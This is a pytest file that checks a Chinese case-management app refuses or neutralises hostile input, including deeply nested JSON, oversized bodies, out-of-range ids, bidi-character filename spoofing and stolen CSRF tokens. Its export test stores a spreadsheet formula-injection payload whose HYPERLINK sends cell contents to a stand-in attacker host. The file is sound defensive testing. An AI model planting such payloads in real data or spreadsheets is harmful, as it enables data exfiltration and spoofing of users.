"""Hostile input through the API and the pages: refused with a code and a Chinese message, never a 5xx.

Deep or huge data, numbers JSON allows but no case has, ids beyond the database's integers,
text with control or bidi characters, formula-like party names in Excel, the security headers
and session-bound CSRF tokens; on SQLite and PostgreSQL.
"""

from __future__ import annotations

import re
from io import BytesIO
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.conftest import Api

OFFICERS = [{"name": "张三", "cert_no": "JZ-001"}, {"name": "李四", "cert_no": "JZ-002"}]
PARTY = {"name": "辛集市某大药房", "type": "organisation", "address": "辛集市建设路1号"}
CHINESE = re.compile(r"[\u4e00-\u9fff]")


def opening(**data: Any) -> dict[str, Any]:
    party = data.pop("party", PARTY)
    return {
        "item": "3",
        "party": party,
        "officers": OFFICERS,
        "data": {"lead_summary": "智能监控发现串换药品", "violation_ended_on": "2026-02-01", **data},
        "occurred_at": "2026-03-02T09:00:00+08:00",
    }


def refused(response: Any, status: int, code: str | None = None) -> dict[str, Any]:
    assert response.status_code == status, response.text
    body = response.json()
    if code:
        assert body["code"] == code, body
    assert CHINESE.search(body["message"]), body
    return body


def case_count(api: Api) -> int:
    return int(api.get("zhang", "/api/cases").json()["total"])


def test_data_nested_300_deep_is_refused_and_nothing_stored(api: Api) -> None:
    deep: Any = "底"
    for _ in range(300):
        deep = {"下一层": deep}
    body = refused(api.post("zhang", "/api/cases", json=opening(materials=deep)), 422, "DATA_TOO_DEEP")
    assert "16层" in body["message"]
    assert case_count(api) == 0
    for page in ("/workbench", "/cases"):  # the lists that once broke for good still answer
        api.client.cookies.clear()
        assert api.client.get(page, headers=api.as_("zhang"), follow_redirects=False).status_code < 500


def test_an_action_with_deep_data_changes_nothing(api: Api) -> None:
    case = api.post("zhang", "/api/cases", json=opening()).json()
    deep: Any = [1]
    for _ in range(400):
        deep = [deep]
    refused(api.fire("zhang", case["id"], "propose_filing", {"opinion": deep}), 422, "DATA_TOO_DEEP")
    after = api.get("zhang", f"/api/cases/{case['id']}").json()
    assert after["state"] == case["state"] and len(after["events"]) == len(case["events"])


def test_a_body_over_the_limit_is_413(api: Api) -> None:
    limit = api.app.state.caseflow.settings.max_body_bytes
    huge = "文" * (limit // 3 + 10)  # three bytes each in UTF-8
    body = refused(api.post("zhang", "/api/cases", json=opening(lead_summary=huge)), 413, "BODY_TOO_LARGE")
    assert body["detail"]["limit"] == limit
    assert case_count(api) == 0


def test_a_long_text_under_the_body_limit_is_refused_not_stored_twice(api: Api) -> None:
    refused(api.post("zhang", "/api/cases", json=opening(lead_summary="串" * 100_000)), 422, "TEXT_TOO_LONG")
    assert case_count(api) == 0


@pytest.mark.parametrize(
    "raw",
    [
        '"lead_summary": NaN',
        '"lead_summary": Infinity',
        '"lead_summary": -Infinity',
        '"lead_summary": 1e308',
        '"lead_summary": 123456789012345678901234567890',
        '"lead_summary": "\\ud800"',
        '"\\udfff": "x"',
    ],
)
def test_numbers_and_text_json_allows_but_no_case_has_are_422(api: Api, raw: str) -> None:
    text = (
        '{"item": "3", "party": {"name": "某药房", "type": "organisation"}, "officers": '
        '[{"name": "张三", "cert_no": "JZ-001"}, {"name": "李四", "cert_no": "JZ-002"}], "data": {' + raw + "}}"
    )
    headers = {**api.as_("zhang"), "Content-Type": "application/json"}
    response = api.client.post("/api/cases", content=text.encode(), headers=headers)
    refused(response, 422)
    assert case_count(api) == 0


@pytest.mark.parametrize("path", ["/api/cases/99999999999999999999999", "/api/cases/9223372036854775808",
                                  "/api/cases/2147483648", "/api/cases/0", "/api/cases/1/documents/18446744073709551616"])
def test_ids_beyond_the_database_integers_are_404(api: Api, path: str) -> None:
    refused(api.get("zhang", path), 404)


def test_ids_beyond_the_database_integers_on_pages_are_404(api: Api) -> None:
    api.client.cookies.set("caseflow_session", api.tokens.get("zhang") or api.as_("zhang")["Authorization"][7:])
    for path in ("/cases/99999999999999999999999", "/hall/cases/9223372036854775808"):
        page = api.client.get(path)
        assert page.status_code == 404 and "没有编号为" in page.text, page.text[:300]


def test_paging_beyond_range_is_422(api: Api) -> None:
    refused(api.get("zhang", "/api/cases", params={"page": "99999999999999999999999"}), 422, "MALFORMED_REQUEST")
    refused(api.get("zhang", "/api/cases", params={"size": "-1"}), 422, "MALFORMED_REQUEST")


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\x00", "\x1b", "\u200f"])
def test_control_and_bidi_characters_are_refused(api: Api, char: str) -> None:
    party = {**PARTY, "name": f"某药房{char}exe.txt"}
    body = refused(api.post("zhang", "/api/cases", json=opening(party=party)), 422, "TEXT_FORBIDDEN_CHARACTER")
    assert body["detail"]["field"] == "party.name"
    refused(api.get("zhang", "/api/cases", params={"item": f"3{char}"}), 422, "TEXT_FORBIDDEN_CHARACTER")


def test_a_line_break_in_a_name_is_refused_but_allowed_in_a_summary(api: Api) -> None:
    refused(api.post("zhang", "/api/cases", json=opening(party={**PARTY, "name": "某\n药房"})), 422)
    assert api.post("zhang", "/api/cases", json=opening(lead_summary="第一行\n第二行")).status_code == 201


def test_text_is_stored_normalised(api: Api) -> None:
    decomposed = "Cafe\u0301药房"  # é typed as e + combining accent
    case = api.post("zhang", "/api/cases", json=opening(party={**PARTY, "name": decomposed})).json()
    assert case["party"]["name"] == "Café药房"


def test_moments_outside_the_years_of_a_case_are_422(api: Api) -> None:
    body = opening()
    body["occurred_at"] = "0001-01-01T00:00:00+14:00"
    refused(api.post("zhang", "/api/cases", json=body), 422, "INVALID_DATE")
    refused(api.get("super", "/api/dashboard/overdue", params={"as_of": "9999-12-31T23:59:59-12:00"}), 422, "INVALID_DATE")


def test_the_party_is_typed(api: Api) -> None:
    refused(api.post("zhang", "/api/cases", json=opening(party={"name": "某药房", "type": "company"})), 422)
    person = {"name": "王某", "type": "individual", "id_no": "130101199001010011"}
    assert api.post("zhang", "/api/cases", json={**opening(party=person), "item": "4"}).status_code == 201  # a person's item
    refused(api.post("zhang", "/api/cases", json={**opening(party={**person, "credit_code": "9113"}), "item": "4"}), 422)


def _page_login(api: Api, username: str) -> str:
    client = api.client
    client.cookies.clear()
    token = re.search(r'name="csrf" value="([^"]+)"', client.get("/login").text)
    assert token
    answer = client.post("/login", data={"username": username, "password": "password-123", "csrf": token.group(1)},
                         follow_redirects=False)
    assert answer.status_code == 303, answer.text
    found = re.search(r'name="csrf" value="([^"]+)"', client.get("/catalogue").text)
    assert found
    return found.group(1)


def test_pages_carry_the_security_headers(api: Api) -> None:
    case = api.post("zhang", "/api/cases", json=opening()).json()
    _page_login(api, "zhang")
    for path in ("/login", f"/cases/{case['id']}", "/workbench", f"/api/cases/{case['id']}"):
        headers = api.client.get(path).headers
        csp = headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp and "'unsafe-inline'" not in csp
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Cache-Control"] == "no-store"
    assert "no-store" not in api.client.get("/static/style.css").headers["Cache-Control"]


def test_a_csrf_token_works_only_in_its_own_session(api: Api) -> None:
    stolen = _page_login(api, "li")
    nonce = api.client.cookies.get("caseflow_csrf")
    own = _page_login(api, "zhang")
    api.client.cookies.set("caseflow_csrf", nonce)  # the attacker plants their nonce too
    refused_page = api.client.post("/logout", data={"csrf": stolen}, follow_redirects=False)
    assert refused_page.status_code == 403 and "表单已过期" in refused_page.text
    own = _page_login(api, "zhang")
    assert api.client.post("/logout", data={"csrf": own}, follow_redirects=False).status_code == 303


def test_a_formula_party_name_is_text_in_every_export(api: Api) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    overdue = api.post("zhang", "/api/cases", json=opening(party={**PARTY, "name": formula}))  # on the dashboard
    assert overdue.status_code == 201
    waiting = api.post("zhang", "/api/cases", json=opening(party={**PARTY, "name": formula})).json()
    assert api.fire("zhang", waiting["id"], "propose_filing", {"opinion": "@SUM(1+1)"}).status_code == 200
    exports = {"zhang": ["/workbench?export=1", "/cases?export=1"], "head": ["/approvals?export=1", "/dashboard?export=1"]}
    seen = 0
    for user, paths in exports.items():
        _page_login(api, user)
        for path in paths:
            answer = api.client.get(path)
            assert answer.status_code == 200, (path, answer.text[:300])
            sheet = load_workbook(BytesIO(answer.content)).active
            assert sheet is not None
            cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == formula]
            assert cells, f"{path}: the party is missing"
            assert all(c.data_type == "s" and c.quotePrefix for c in cells), path
            seen += len(cells)
    assert seen >= 4
